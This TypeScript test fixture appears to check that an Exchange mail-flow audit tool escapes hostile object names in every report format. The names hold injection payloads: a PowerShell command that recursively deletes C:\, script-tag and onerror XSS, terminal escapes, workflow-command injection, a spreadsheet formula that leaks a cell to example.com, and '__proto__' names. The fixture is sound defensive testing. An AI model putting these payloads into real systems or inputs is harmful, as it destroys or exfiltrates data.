import {
  inboundRouteSettings,
  outboundRouteSettings,
  routeInboundSettings,
  routeOutboundSettings,
  tenantConnectorSettings,
} from '../mxhero.ts';
import type { Over } from '../objects/cmdlet-object.ts';
import { contosoHome } from '../objects/home.ts';
import { guidOf } from '../objects/identifiers.ts';
import { baseDraft, servicePolicy } from './base-draft.ts';
import { declare } from './config-file.ts';
import type { Draft } from './draft.ts';
import { disclaimer, externalBanner, rejectExecutables } from './everyday-rules.ts';
import type { TenantFixture } from './tenant-fixture.ts';

/** Names that try every sink: terminal, Markdown, HTML, CSV, PowerShell, workflow commands, JSON readers. */
const hostileNames = {
  inboundRoute: `mxHERO "Inbound" $(Remove-Item -Recurse C:\\) \`whoami\` 'x'; Get-Mailbox`,
  outboundRoute: 'mxHERO \u202Etuobtuo\u202C <img src=x onerror=alert(1)>',
  inboundRule: '\u001b[2J\u001b[31mRoute\u0007 inbound\r\n::error file=app.js,line=1::owned\r\n## All good',
  outboundRule: '=HYPERLINK("https://example.com/?leak="&A1,"Route | outbound")\t| a | b |',
  tenantConnector: '[mxHERO](javascript:alert(1)) </script><script>alert(1)</script> **bold** \u2066hidden\u2069',
  lone: 'half an emoji \ud83d and a zero\u200bwidth space',
  twin: 'Twin',
  long: `${'very '.repeat(60)}long`,
} as const;

/** Rules that only carry names; a property called `__proto__` is data like any other. */
const decoys: readonly Over[] = [
  {
    Name: '__proto__',
    FromScope: 'InOrganization',
    SentToScope: 'InOrganization',
    SetAuditSeverity: 'Low',
    ['__proto__']: { State: 'Disabled' },
  },
  { Name: 'constructor', FromScope: 'InOrganization', SentToScope: 'InOrganization', SetAuditSeverity: 'Low' },
  { Name: hostileNames.lone, FromScope: 'InOrganization', SentToScope: 'InOrganization', SetAuditSeverity: 'Low' },
  { Name: hostileNames.twin, FromScope: 'InOrganization', SentToScope: 'InOrganization', SetAuditSeverity: 'Low' },
  {
    Name: hostileNames.twin,
    Guid: guidOf('TransportRule', 'Twin, the second'),
    ImmutableId: guidOf('TransportRule', 'Twin, the second'),
    FromScope: 'InOrganization',
    SentToScope: 'InOrganization',
    Comments: '\u0000\u0001 -- %0A::set-output name=x::y {{7*7}} ${7*7}',
    SetAuditSeverity: 'Low',
  },
  { Name: hostileNames.long, FromScope: 'InOrganization', SentToScope: 'InOrganization', SetAuditSeverity: 'Low' },
];

function hostile(): Draft {
  return {
    ...baseDraft(contosoHome, ['contoso.com']),
    arc: [{ ArcTrustedSealers: ['mxhero.com'] }],
    inbound: [{ ...tenantConnectorSettings, Name: hostileNames.tenantConnector, RequireTls: false }],
    outbound: [
      { ...inboundRouteSettings, Name: hostileNames.inboundRoute, TlsSettings: 'EncryptionOnly' },
      { ...outboundRouteSettings, Name: hostileNames.outboundRoute, TlsSettings: null },
    ],
    rules: [
      {
        ...routeInboundSettings,
        Name: hostileNames.inboundRule,
        RouteMessageOutboundConnector: hostileNames.inboundRoute,
        ExceptIfHeaderContainsMessageHeader: null,
        ExceptIfHeaderContainsWords: null,
        StopRuleProcessing: true,
      },
      {
        ...routeOutboundSettings,
        Name: hostileNames.outboundRule,
        RouteMessageOutboundConnector: hostileNames.outboundRoute,
        SentToScope: null,
      },
      ...decoys,
      rejectExecutables,
      externalBanner,
      disclaimer('Contoso'),
    ],
    remoteDomains: [
      {
        Name: 'Default',
        DomainName: '*',
        TNEFEnabled: true,
        AdminDisplayName: '\u001b]8;;https://example.com\u0007click',
      },
    ],
    filters: [servicePolicy],
    config: declare('loopback', 'standard', ['contoso.com']),
  };
}

export const hostileTenant: TenantFixture = {
  name: 'hostile-names',
  about:
    'Names with control characters, escape sequences, line breaks, bidi marks, quotes, PowerShell, Markdown, HTML and CSV formulas; two rules share a name, one is called `__proto__`. Five mistakes bring the names into the report.',
  departs: 'mxHERO Office 365 Configuration Guide 3, 5.1, 5.3, 5.4, 6.1 and 6.2',
  says: 'Five kinds of findings of the profile vendor and three of the others, with every name made visible or escaped in every output format; fixes address the objects by Guid.',
  expected: {
    vendor: [
      'connector/inbound-tls-not-required',
      'connector/outbound-tls-weak',
      'remote-domain/tnef-not-disabled',
      'transport-rule/loop-guard-missing',
      'transport-rule/recipient-scope-missing',
    ],
    exchange: ['transport-rule/limit-exceeded'],
    security: ['connection-filter/service-ip-allowed', 'organization/direct-send-open'],
    verified: ['mail-flow/broken-route', 'mail-flow/routing-loop', 'mail-flow/tnef-to-service'],
  },
  draft: hostile(),
};
